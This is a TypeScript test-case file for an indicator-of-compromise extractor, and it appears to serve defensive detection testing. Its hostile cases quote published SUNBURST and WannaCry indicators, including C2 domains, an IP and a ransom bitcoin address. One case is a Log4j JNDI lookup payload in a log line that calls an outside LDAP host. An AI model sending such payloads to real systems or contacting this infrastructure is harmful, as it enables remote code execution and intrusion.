import type { ToolCases } from '../../../src/tools/testing/check-cases.ts';

export const ioc: ToolCases = {
  hostile: [
    {
      name: 'indicators of SUNBURST from a report',
      source: 'FireEye, Highly Evasive Attacker Leverages SolarWinds Supply Chain, 2020',
      input:
        'Backdoor SolarWinds.Orion.Core.BusinessLayer.dll, SHA-256\n' +
        '32519b85c0b422e4656de6e6c41878e95fd95026267daab4215ee59c107d6c77\n' +
        'calls avsvmcloud[.]com, then hxxps://deftsecurity[.]com and 13.59.205[.]66',
      ids: [],
      risk: 'unknown',
    },
    {
      name: 'what WannaCry shows and calls',
      source: 'CISA, Alert TA17-132A',
      input:
        'Kill switch: www[.]iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea[.]com\n' +
        'Tor: gx7ekbenv2riucmf[.]onion\n' +
        'Send $300 worth of bitcoin to 13AM4VW2dhxYgXeQepoHkHSQuy6NgaEb94\n' +
        'uses CVE-2017-0144',
      ids: ['ioc.hidden-service'],
      risk: 'low',
    },
    {
      name: 'a look-up of Log4j in a line of a log',
      source: 'CVE-2021-44228; combined log format of Apache',
      input:
        '203.0.113.9 - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/1.1" 200 45 "-" ' +
        '"$' +
        '{jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=}"',
      ids: ['ioc.documentation', 'ioc.live-link'],
      risk: 'unknown',
    },
  ],
  harmless: [
    {
      name: 'names of files and a version',
      source: 'known false positives of extractors of indicators',
      input: 'Run main.py of version 2.14.1.3 and read README.md and index.js first.',
      ids: [],
      risk: 'none',
    },
    {
      name: 'a sentence without indicators',
      source: 'RFC 2606: nothing to look for',
      input: 'The meeting is at 10:30 in room 4.2, see you there.',
      ids: [],
      risk: 'none',
    },
    {
      name: 'addresses inside of a network and of examples',
      source: 'RFC 1918; RFC 5737; RFC 2606',
      input: 'The router is 192.168.1.1, the server 10.0.0.5, the example 192.0.2.10 of www.example.com.',
      ids: ['ioc.documentation', 'ioc.internal-address'],
      risk: 'none',
    },
  ],
};
